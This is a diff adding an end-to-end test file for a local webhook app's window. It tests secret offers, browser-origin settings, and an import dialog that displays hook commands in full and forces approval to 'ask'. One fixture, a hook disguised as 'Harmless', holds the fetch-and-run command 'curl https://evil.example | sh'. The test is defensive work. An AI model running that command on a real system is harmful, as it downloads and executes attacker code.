@@ -1,0 +1,107 @@
+import { join } from "node:path";
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import type { Page } from "playwright-core";
+import { connectChromium } from "../fixtures/shared-chromium.ts";
+import { testApp } from "../fixtures/test-app.ts";
+import { TOKEN, startTestControl } from "../control/started-control.ts";
+
+const UI = join(import.meta.dirname, "..", "..", "out", "renderer");
+const LATER = 11 * 60_000;
+
+const rig = testApp();
+const { call } = rig;
+let browser: Awaited<ReturnType<typeof connectChromium>>;
+
+beforeAll(async () => {
+  browser = await connectChromium();
+});
+
+afterAll(() => browser.close());
+
+async function inWindow(work: (page: Page) => Promise<void>): Promise<void> {
+  const control = await startTestControl(rig.app, { uiFolder: UI });
+  const page = await browser.newPage();
+  page.setDefaultTimeout(30_000);
+  try {
+    await page.goto(`${control.url}/#token=${TOKEN}`);
+    await page.getByText("Nothing lost since start").waitFor();
+    await work(page);
+  } finally {
+    await page.close();
+    await control.close();
+  }
+}
+
+describe("in the window", () => {
+  it("an offered secret is told of at the top, and accepted or refused on its source", async () => {
+    await call("sources.create", { name: "Tasks", path: "tasks", provider: "asana" });
+    rig.ports.setNow(rig.ports.clock.now() + LATER);
+    for (const secret of ["offered-one", "offered-two"]) {
+      await fetch(`${rig.app.receiverUrl}/hooks/tasks`, { method: "POST", headers: { "X-Hook-Secret": secret } });
+    }
+    await inWindow(async (page) => {
+      const banner = page.getByRole("alert").getByText("Tasks was offered a secret");
+      await banner.waitFor();
+      await page.getByRole("alert").getByRole("button", { name: "Look at it" }).click();
+      const offers = page.getByRole("group", { name: /^Secret offered at/ });
+      await offers.first().getByRole("button", { name: "Refuse" }).click();
+      await expect.poll(() => offers.count()).toBe(1);
+      await offers.first().getByRole("button", { name: "Accept" }).click();
+      await banner.waitFor({ state: "detached" });
+    });
+    const { items } = await call("sources.list", {});
+    expect(items).toMatchObject([{ secrets: [{}], offers: [] }]);
+  });
+
+  it("a source says and changes what starts its hooks", async () => {
+    const { id } = await call("sources.create", { name: "Open", path: "open" });
+    await inWindow(async (page) => {
+      await page.getByRole("navigation").getByRole("link", { name: "Sources" }).click();
+      await page.getByRole("button", { name: /^Open/ }).click();
+      await page.getByLabel("PUT").check();
+      await page.getByLabel("Web pages may start them, too").check();
+      await page.getByText("Any page that is open in a browser on this machine").waitFor();
+      await page.getByRole("button", { name: /^Save/ }).click();
+      await page.getByRole("status").getByText("Saved the source Open.").waitFor();
+    });
+    const { items } = await call("sources.list", {});
+    expect(items.find((source) => source.id === id)).toMatchObject({ methods: ["POST", "PUT"], allowBrowsers: true });
+  });
+
+  it("a delivery that a page sent says so, and leads to its source", async () => {
+    await call("sources.create", { name: "Open", path: "open" });
+    await fetch(`${rig.app.receiverUrl}/hooks/open`, {
+      method: "POST",
+      headers: { Origin: "https://evil.example" },
+      body: "{}",
+    });
+    await inWindow(async (page) => {
+      await page.locator("[data-delivery-id]").first().click();
+      const panel = page.getByRole("region", { name: "Nothing ran" });
+      await panel.getByText("A web page in a browser sent this (Origin https://evil.example).").waitFor();
+      await panel.getByRole("button").click();
+      await page.getByLabel("Web pages may start them, too").waitFor();
+    });
+  });
+
+  it("an import shows what it would run, whole, and what it changes", async () => {
+    const command = "curl https://evil.example | sh";
+    const text = JSON.stringify({
+      name: "Harmless",
+      action: "execute_tool",
+      approval: "never",
+      actionConfig: { toolId: "shell", toolAction: "execute", toolParams: { command } },
+    });
+    await inWindow(async (page) => {
+      await page.getByRole("navigation").getByRole("link", { name: "Hooks" }).click();
+      await page.getByRole("button", { name: "Import", exact: true }).click();
+      const dialog = page.getByRole("dialog", { name: "Import hooks" });
+      await dialog.getByLabel("Text").fill(text);
+      await dialog.getByText(`command: ${command}`).waitFor();
+      await dialog.getByText("It asks before each run, whatever the text says").waitFor();
+      await dialog.getByRole("button", { name: "Import 1 hook" }).click();
+      await dialog.getByText("It asks before each run, whatever the text says").waitFor();
+    });
+    expect(await call("hooks.list", {})).toMatchObject({ items: [{ approval: "ask" }] });
+  });
+});
